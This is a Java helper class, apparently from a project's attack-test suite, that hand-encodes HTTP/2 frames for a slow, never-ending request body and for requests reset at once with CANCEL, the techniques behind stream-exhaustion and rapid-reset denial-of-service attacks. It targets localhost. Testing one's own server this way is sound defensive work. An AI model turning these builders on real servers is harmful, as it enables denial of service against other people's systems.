package dev.clausewise.attacks;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/**
 * The frames of HTTP/2 (RFC 9113) that an attack needs, for a connection that begins with prior
 * knowledge; headers are written as literals (RFC 7541, 6.2.2).
 */
final class Streams {
  private static final int DATA = 0;
  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int SETTINGS = 4;
  private static final int END_OF_STREAM = 1;
  private static final int END_OF_HEADERS = 4;
  private static final int CANCEL = 8;

  /** Names in the static table. */
  private static final int AUTHORITY = 1;

  private static final int PATH = 4;
  private static final int CONTENT_TYPE = 31;

  /** {@code :method: POST} and {@code :scheme: http} in the static table. */
  private static final byte[] POST_HTTP = {(byte) 0x83, (byte) 0x86};

  private Streams() {}

  /** How a connection begins. */
  static byte[] preface() {
    return joined(
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
        frame(SETTINGS, 0, 0, new byte[0]));
  }

  /** A request whose body has begun and does not end. */
  static byte[] begun(int stream, String path) {
    return joined(
        frame(HEADERS, END_OF_HEADERS, stream, headers(path)),
        frame(DATA, 0, stream, "{\"facts".getBytes(StandardCharsets.US_ASCII)));
  }

  /** A whole request that is taken back at once. */
  static byte[] takenBack(int stream, String path, String body) {
    byte[] reset = ByteBuffer.allocate(4).putInt(CANCEL).array();
    return joined(
        frame(HEADERS, END_OF_HEADERS, stream, headers(path)),
        frame(DATA, END_OF_STREAM, stream, body.getBytes(StandardCharsets.US_ASCII)),
        frame(RESET, 0, stream, reset));
  }

  private static byte[] headers(String path) {
    return joined(
        POST_HTTP,
        literal(PATH, path),
        literal(AUTHORITY, "127.0.0.1"),
        literal(CONTENT_TYPE, "application/json"));
  }

  private static byte[] literal(int name, String value) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    if (name < 15) {
      bytes.write(name);
    } else {
      bytes.write(15);
      bytes.write(name - 15);
    }
    bytes.write(value.length());
    bytes.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    return bytes.toByteArray();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
    frame.put((byte) (payload.length >> 16)).putShort((short) payload.length);
    frame.put((byte) type).put((byte) flags).putInt(stream).put(payload);
    return frame.array();
  }

  private static byte[] joined(byte[]... parts) {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      all.writeBytes(part);
    }
    return all.toByteArray();
  }
}
